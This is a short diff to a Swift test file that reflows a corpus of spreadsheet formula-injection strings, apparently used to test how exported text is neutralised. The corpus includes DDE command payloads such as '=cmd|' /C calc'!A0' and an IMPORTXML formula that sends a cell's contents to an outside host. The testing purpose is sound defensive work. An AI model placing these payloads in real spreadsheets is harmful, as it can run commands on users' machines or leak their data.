@@ -6,7 +6,8 @@ import Testing
 struct `A spreadsheet` {
   /// Texts that spreadsheets have taken for formulas, links or commands.
   private static let corpus = [
-    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=1+1;=2+2", "=\"a\"&\"b\"", "\"=1+1\"", "=cmd|' /C calc'!A0",
+    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=1+1;=2+2", "=\"a\"&\"b\"", "\"=1+1\"",
+    "=cmd|' /C calc'!A0",
     "=HYPERLINK(\"http://exemple.invalid\";\"ici\")", "=IMPORTXML(CONCAT(\"http://x/\";A1))",
     "＝1+1", "＋1", "-2+3+cmd|' /C calc'!D2", "=WEBSERVICE(\"http://exemple.invalid\")",
     "0x1F", "1e9", "2026-11-21", "TRUE", "'=1+1", "{=1+1}", "=1+1,=2",
